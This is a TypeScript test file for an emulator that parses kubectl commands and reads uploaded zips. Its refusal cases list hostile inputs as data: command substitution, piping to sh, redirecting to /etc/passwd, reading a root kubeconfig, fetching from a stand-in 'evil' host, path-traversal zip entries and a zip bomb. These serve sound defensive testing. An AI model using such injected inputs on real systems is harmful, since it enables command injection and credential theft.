import { strToU8, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { parseStatements } from '../../../src/emulator/run-command/parse-statements.ts';
import { readZip } from '../../../src/emulator/run-command/read-zip.ts';
import { runKubectl } from '../../../src/emulator/run-command/run-kubectl.ts';

describe("the emulator's runCommand", () => {
  it('splits a text into its kubectl commands', () => {
    expect(parseStatements(`kubectl get 'a b' -o "x"; kubectl apply -f a.yaml && kubectl version`)).toEqual([
      { words: ['kubectl', 'get', 'a b', '-o', 'x'], after: ';' },
      { words: ['kubectl', 'apply', '-f', 'a.yaml'], after: ';' },
      { words: ['kubectl', 'version'], after: '&&' },
    ]);
  });

  it.each([
    ['another program', 'helm list'],
    ['a substitution', 'kubectl get $(whoami)'],
    ['a substitution in quotes', 'kubectl get "$(whoami)"'],
    ['backticks', 'kubectl get `whoami`'],
    ['a pipe', 'kubectl get pods | sh'],
    ['a redirection', 'kubectl get pods > /etc/passwd'],
    ['a background job', 'kubectl get pods & reboot'],
    ['an escape', 'kubectl get \\; reboot'],
    ['an open quote', "kubectl get 'pods"],
    ['a shell in a pod', 'kubectl exec x -- sh'],
    ['another cluster', 'kubectl get pods --kubeconfig=/root/.kube/config'],
    ['another server', 'kubectl get pods -s https://evil'],
    ['a file of the machine', 'kubectl apply -f /etc/passwd'],
    ['a file of the machine in an output', 'kubectl get pods -o jsonpath-file=../x'],
    ['an address', 'kubectl apply -f https://evil/x.yaml'],
    ['a watch', 'kubectl get pods --watch'],
    ['nothing', ' ; '],
  ])('refuses %s', (_what, text) => {
    expect(() => parseStatements(text)).toThrow();
  });

  it.each([0, 6] as const)('reads a zip of level %i', (level) => {
    const content = 'content '.repeat(100);
    const zip = zipSync({ 'a.json': strToU8(content), 'b.json': strToU8('{}') }, { level });
    const files = readZip(Buffer.from(zip));
    expect([...files].map(([name, bytes]) => [name, bytes.toString()])).toEqual([
      ['a.json', content],
      ['b.json', '{}'],
    ]);
  });

  it.each(['../a', '/etc/a', 'a/b', '.kubeconfig'])('refuses a zip with a file %s', (name) => {
    expect(() => readZip(Buffer.from(zipSync({ [name]: strToU8('x') })))).toThrow();
  });

  it('refuses what is no zip, and a bomb', () => {
    expect(() => readZip(Buffer.from('hello'))).toThrow(/no zip/);
    const bomb = zipSync({ 'a.json': new Uint8Array(40 * 1024 * 1024) });
    expect(() => readZip(Buffer.from(bomb))).toThrow();
  });

  it('says so when there is no kubectl', async () => {
    const run = {
      text: 'kubectl version',
      context: '',
      kubeconfig: '',
      path: '/nowhere',
      signal: new AbortController().signal,
    };
    await expect(runKubectl(run)).rejects.toThrow('kubectl is not on the PATH of the emulator');
  });
});
